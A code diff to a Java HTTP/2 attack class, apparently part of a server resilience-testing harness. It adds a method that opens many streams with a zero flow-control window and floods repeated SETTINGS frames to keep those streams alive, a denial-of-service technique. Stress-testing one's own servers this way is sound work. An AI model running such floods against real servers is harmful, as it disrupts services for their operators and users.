@@ -25,6 +25,31 @@ final class Http2Attacks {
 
   private Http2Attacks() {}
 
+  /** Of a client without a credential, whose answers cannot leave, so that its streams stay. */
+  static void settingsOfOpenStreams(Siege siege) throws InterruptedException {
+    List<Http2Frame> settings =
+        Collections.nCopies(
+            1_000,
+            new Http2Frame(
+                Http2Frame.SETTINGS,
+                0,
+                0,
+                new byte[] {0, FrameConnection.INITIAL_WINDOW_SIZE, 0, 0, 0, 0}));
+    siege.flood(
+        CREW,
+        () -> {
+          FrameConnection connection = siege.http2(Map.of(FrameConnection.INITIAL_WINDOW_SIZE, 0));
+          for (int i = 0; i < STREAMS; i++) {
+            connection.headers(2 * i + 1, true, get("/version"));
+          }
+          while (siege.goesOn()) {
+            connection.send(settings);
+            siege.acted();
+            siege.rest(PACE);
+          }
+        });
+  }
+
   /** Large lists of a user who may read them, into a window that never opens. */
   static void windowZero(Siege siege) throws InterruptedException {
     siege.crew(
